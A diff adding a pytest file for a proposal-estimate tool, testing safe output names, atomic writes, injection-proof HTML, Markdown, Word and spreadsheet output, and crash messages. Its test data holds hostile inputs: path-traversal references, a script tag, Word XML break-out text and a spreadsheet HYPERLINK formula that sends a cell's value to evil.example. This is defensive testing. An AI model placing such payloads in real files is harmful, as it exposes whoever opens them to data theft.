@@ -1,0 +1,355 @@
+"""Safe names, safe places, safe content, and nothing half-written.
+
+- Output names come from the proposal's reference through ``safe_stem``: whatever the reference
+  (``../../etc/x``, ``CON``, slashes, control characters, 500 characters, nothing usable), the
+  name is valid on Windows, macOS and Linux and the file lands inside ``--out``.
+- ``write_outputs`` renders every format in memory, writes temporary files, then renames: a
+  renderer or a write that fails leaves the previous outputs as they were and no temporary file.
+- Proposal text never becomes a spreadsheet formula, HTML markup or Word XML, in any format
+  registered in ``RENDERERS``.
+- A crash prints one line, never a traceback with the proposal's contents.
+"""
+
+from __future__ import annotations
+
+import io
+import json
+import re
+import subprocess
+import sys
+import zipfile
+from collections.abc import Mapping
+from pathlib import Path
+from typing import Any
+from xml.etree import ElementTree
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from typer.testing import CliRunner
+
+from estimator import outputs
+from estimator.cli import app
+from estimator.estimate import Estimate
+from estimator.outputs import RENDERERS, safe_stem, write_outputs
+from estimator.pipeline import estimate
+
+WINDOWS_RESERVED = {"CON", "PRN", "AUX", "NUL", *(f"COM{i}" for i in range(1, 10))}
+WINDOWS_RESERVED |= {f"LPT{i}" for i in range(1, 10)}
+PORTABLE = re.compile(r"^[A-Za-z0-9_+()\[\]][A-Za-z0-9._+()\[\]-]*$")
+
+
+def _portable(stem: str) -> bool:
+    """Valid as a file name on Windows, macOS and Linux, and never hidden or option-like."""
+    return (
+        bool(PORTABLE.match(stem))
+        and not stem.endswith((".", " ", "-"))
+        and stem.split(".")[0].upper() not in WINDOWS_RESERVED
+        and len(stem) <= 120
+    )
+
+
+@pytest.mark.parametrize(
+    ("reference", "stem"),
+    [
+        ("PP26/44A2/1", "PP26-44A2-1"),
+        ("../../etc/x", "etc-x"),
+        ("/etc/passwd", "etc-passwd"),
+        ("..\\..\\Windows\\win.ini", "Windows-win.ini"),
+        ("CON", "_CON"),
+        ("con.txt", "_con.txt"),
+        ("LPT9", "_LPT9"),
+        ("COM\u00b9", "_COM1"),  # a superscript one is COM1 to Windows
+        ("a/b\\c", "a-b-c"),
+        ('a:b*c?d"e<f>g|h', "a-b-c-d-e-f-g-h"),
+        ("line\nbreak\x00nul\x1b[31mred", "line-break-nul-[31mred"),
+        ("C\u00f4te d'Ivoire/1", "Cote-d-Ivoire-1"),
+        ("report.", "report"),
+        (" -leading dash", "leading-dash"),
+        ("WTSA24/12(Add.1)", "WTSA24-12(Add.1)"),
+    ],
+)
+def test_safe_stem_makes_a_portable_name_from_a_hostile_reference(
+    reference: str, stem: str
+) -> None:
+    assert safe_stem(reference) == stem
+    assert _portable(stem)
+
+
+def test_a_very_long_reference_is_cut_to_120_characters_without_a_trailing_dot() -> None:
+    assert safe_stem("x" * 500) == "x" * 120
+    # cut at 120, the 120th character is a dot: it goes
+    assert safe_stem("x" * 119 + ".pdf") == "x" * 119
+
+
+def test_references_with_nothing_usable_get_distinct_names() -> None:
+    names = {safe_stem(r) for r in ("日本", "中文", "...", "", "///", "\x00")}
+    assert len(names) == 6
+    assert all(re.fullmatch(r"proposal-[0-9a-f]{8}", n) for n in names)
+
+
+@given(st.text(max_size=300))
+def test_any_reference_gives_a_portable_name_inside_the_output_folder(reference: str) -> None:
+    stem = safe_stem(reference)
+    assert _portable(stem), stem
+    out = Path("/srv/out")
+    assert (out / f"{stem}.annex.docx").parent == out
+    assert ".." not in Path(stem).parts
+
+
+PROPOSAL = """\
+format = 1
+
+[proposal]
+reference = {reference}
+title = {title}
+conference = "PP-26"
+submitted_by = [{title}]
+responsible = "GS"
+period = [2027, 2027]
+requests = [{title}]
+
+[[activity]]
+id = "adviser"
+kind = "consultant"
+title = {title}
+note = {title}
+days = {days}
+
+[[activity]]
+id = "portal"
+kind = "services"
+title = {title}
+amount = 1000
+justification = {title}
+"""
+
+
+def _proposal(
+    path: Path, reference: str = "PP26/1", title: str = "A proposal", days: int = 10
+) -> Path:
+    text = PROPOSAL.format(
+        reference=json.dumps(reference), title=json.dumps(title, ensure_ascii=False), days=days
+    )
+    path.write_text(text, encoding="utf-8")
+    return path
+
+
+def _estimate(path: Path) -> Estimate:
+    outcome = estimate(path)
+    assert outcome.estimate is not None, [d.render() for d in outcome.diagnostics]
+    return outcome.estimate
+
+
+def _files(folder: Path) -> dict[str, bytes]:
+    return {str(p.relative_to(folder)): p.read_bytes() for p in folder.rglob("*") if p.is_file()}
+
+
+def test_an_estimate_with_a_traversing_reference_writes_only_inside_out(tmp_path: Path) -> None:
+    out = tmp_path / "deep" / "out"
+    proposal = _proposal(tmp_path / "p.toml", reference="../../../escaped/CON")
+    result = CliRunner().invoke(
+        app, ["estimate", str(proposal), "--out", str(out)], catch_exceptions=False
+    )
+    assert result.exit_code == 0, result.output
+    assert sorted(_files(tmp_path)) == sorted(
+        ["p.toml", *(f"deep/out/escaped-CON.{suffix}" for suffix, _ in RENDERERS.values())]
+    )
+
+
+# -- nothing half-written ------------------------------------------------------------------------
+
+
+@pytest.fixture
+def previous(tmp_path: Path) -> tuple[Path, Estimate, dict[str, bytes]]:
+    """A folder holding the outputs of a first run, and the estimate of a changed proposal."""
+    out = tmp_path / "out"
+    write_outputs(_estimate(_proposal(tmp_path / "v1.toml", days=10)), out, list(RENDERERS))
+    changed = _estimate(_proposal(tmp_path / "v2.toml", days=20))
+    return out, changed, _files(out)
+
+
+def _broken(estimate: Estimate, options: Mapping[str, Any]) -> bytes:
+    raise RuntimeError("renderer failed")
+
+
+def test_a_failing_renderer_leaves_the_previous_outputs_untouched_and_no_temporary_file(
+    previous: tuple[Path, Estimate, dict[str, bytes]], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    out, changed, before = previous
+    assert len(before) == len(RENDERERS)
+    monkeypatch.setitem(RENDERERS, "broken", ("broken.txt", _broken))
+    formats = [*RENDERERS]  # the broken one comes last: every other one rendered fine
+    with pytest.raises(RuntimeError, match="renderer failed"):
+        write_outputs(changed, out, formats)
+    assert _files(out) == before
+
+
+def test_a_write_that_fails_half_way_leaves_the_previous_outputs_and_no_temporary_file(
+    previous: tuple[Path, Estimate, dict[str, bytes]], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The disk fills up while the third temporary file is written."""
+    out, changed, before = previous
+    real_fdopen = outputs.os.fdopen
+    opened: list[int] = []
+
+    def fdopen(fd: int, mode: str) -> io.BufferedWriter:
+        opened.append(fd)
+        f: io.BufferedWriter = real_fdopen(fd, mode)
+        if len(opened) == 3:
+
+            def full(data: bytes) -> int:
+                raise OSError(28, "No space left on device")
+
+            f.write = full  # type: ignore[method-assign]
+        return f
+
+    monkeypatch.setattr(outputs.os, "fdopen", fdopen)
+    with pytest.raises(OSError, match="No space left"):
+        write_outputs(changed, out, list(RENDERERS))
+    assert len(opened) == 3
+    assert _files(out) == before
+
+
+def test_a_successful_run_replaces_every_output_and_leaves_no_temporary_file(
+    previous: tuple[Path, Estimate, dict[str, bytes]],
+) -> None:
+    out, changed, before = previous
+    write_outputs(changed, out, list(RENDERERS))
+    after = _files(out)
+    assert sorted(after) == sorted(before)
+    assert json.loads(after["PP26-1.estimate.json"]) == changed.to_json()
+    assert after["PP26-1.estimate.json"] != before["PP26-1.estimate.json"]
+
+
+def test_outputs_are_readable_by_others_like_any_file_not_private_like_a_temp_file(
+    tmp_path: Path,
+) -> None:
+    out = tmp_path / "out"
+    [path] = write_outputs(_estimate(_proposal(tmp_path / "p.toml")), out, ["json"])
+    assert path.stat().st_mode & 0o644 == 0o644  # rw-r--r-- under the usual umask 022
+
+
+# -- safe content ----------------------------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+HOSTILE = (
+    f"{FORMULA} +1+2 -3+4 @SUM(A1:A9) <script>alert('x')</script> <b>bold</b> "
+    "</w:t></w:r><w:r><w:t>injected &amp; {{ 7*7 }} {% raw %}"
+)
+
+
+@pytest.fixture(scope="module")
+def hostile_outputs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
+    """Every registered format, rendered from a proposal whose every text is hostile."""
+    folder = tmp_path_factory.mktemp("hostile")
+    est = _estimate(_proposal(folder / "p.toml", reference="PP26/1", title=HOSTILE))
+    return {fmt: renderer(est, {}) for fmt, (_, renderer) in RENDERERS.items()}
+
+
+def _need(formats: dict[str, bytes], fmt: str) -> bytes:
+    if fmt not in formats:
+        pytest.skip(f"the {fmt} output is not registered yet")
+    return formats[fmt]
+
+
+def test_json_carries_the_text_exactly(hostile_outputs: dict[str, bytes]) -> None:
+    data = json.loads(_need(hostile_outputs, "json"))
+    assert data["proposal"]["title"] == HOSTILE
+
+
+def test_html_shows_markup_from_the_proposal_as_text(hostile_outputs: dict[str, bytes]) -> None:
+    html = _need(hostile_outputs, "html").decode("utf-8")
+    assert "<script>" not in html
+    assert "<b>bold</b>" not in html
+    assert "&lt;script&gt;alert(" in html
+    assert "{{ 7*7 }}" in html  # and no template runs it
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="estimator/annex.py: the Markdown filters (md_cell, md_line, ...) do not escape < and >"
+    " (batch_report.markdown_cell does); remove this mark when they do",
+)
+def test_markdown_does_not_pass_raw_html_from_the_proposal(
+    hostile_outputs: dict[str, bytes],
+) -> None:
+    """Markdown viewers render inline HTML: the annex must not carry the proposal's."""
+    md = _need(hostile_outputs, "md").decode("utf-8")
+    assert "<script>" not in md
+    assert "script" in md and "{{ 7*7 }}" in md
+
+
+def test_word_keeps_the_text_inside_its_own_text_run(hostile_outputs: dict[str, bytes]) -> None:
+    with zipfile.ZipFile(io.BytesIO(_need(hostile_outputs, "docx"))) as z:
+        xml = z.read("word/document.xml")
+    root = ElementTree.fromstring(xml)  # well-formed: nothing broke out of the XML
+    w = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
+    texts = [t.text or "" for t in root.iter(f"{w}t")]
+    joined = "".join(texts)
+    assert "</w:t></w:r><w:r><w:t>injected" in joined  # shown as text, not read as XML
+    assert not any(t == "injected &amp; {{ 7*7 }} {% raw %}" for t in texts)
+
+
+def test_the_workbook_holds_proposal_text_as_text_never_as_a_formula(
+    hostile_outputs: dict[str, bytes],
+) -> None:
+    from openpyxl import load_workbook
+
+    book = load_workbook(io.BytesIO(_need(hostile_outputs, "xlsx")))
+    texts: list[str] = []
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                if cell.data_type == "f":
+                    formula = str(cell.value)
+                    assert "HYPERLINK" not in formula and "evil" not in formula, cell.coordinate
+                    assert "SUM(A1:A9)" not in formula, cell.coordinate
+                elif isinstance(cell.value, str):
+                    texts.append(cell.value)
+    # the title is in the workbook, whole, as a text cell
+    assert HOSTILE in texts, "the hostile title is not in the workbook"
+
+
+def test_a_cell_starting_with_each_formula_character_stays_text(tmp_path: Path) -> None:
+    from openpyxl import load_workbook
+
+    if "xlsx" not in RENDERERS:
+        pytest.skip("the xlsx output is not registered yet")
+    for lead in ("=1+1", "+1+1", "-1+1", "@SUM(1)"):
+        est = _estimate(_proposal(tmp_path / "p.toml", title=lead))
+        book = load_workbook(io.BytesIO(RENDERERS["xlsx"][1](est, {})))
+        cells = [c for s in book.worksheets for r in s.iter_rows() for c in r]
+        assert any(c.value == lead and c.data_type == "s" for c in cells), lead
+        assert not any(c.data_type == "f" and lead[1:] in str(c.value) for c in cells), lead
+
+
+# -- crashes -------------------------------------------------------------------------------------
+
+CRASH = """\
+import sys
+import estimator.cli as cli
+
+def boom(path, *args, **kwargs):
+    secret = open(path, encoding="utf-8").read()  # proposal contents in a local variable
+    raise RuntimeError("bug while pricing " + secret[:0])
+
+cli.run_estimate = boom
+sys.argv = ["finimpact", "estimate", sys.argv[1], "--out", sys.argv[2]]
+cli.main()
+"""
+
+
+def test_an_internal_error_prints_one_line_without_the_proposal_contents(tmp_path: Path) -> None:
+    """A real process: Typer's pretty traceback, with or without locals, must not appear."""
+    proposal = _proposal(tmp_path / "p.toml", title="CONFIDENTIAL-DRAFT-TEXT")
+    run = subprocess.run(
+        [sys.executable, "-c", CRASH, str(proposal), str(tmp_path / "out")],
+        capture_output=True,
+        text=True,
+        timeout=60,
+    )
+    assert run.returncode == 3
+    assert run.stdout == ""
+    assert run.stderr.splitlines() == ["finimpact: internal error (RuntimeError); please report it"]
+    assert not (tmp_path / "out").exists()
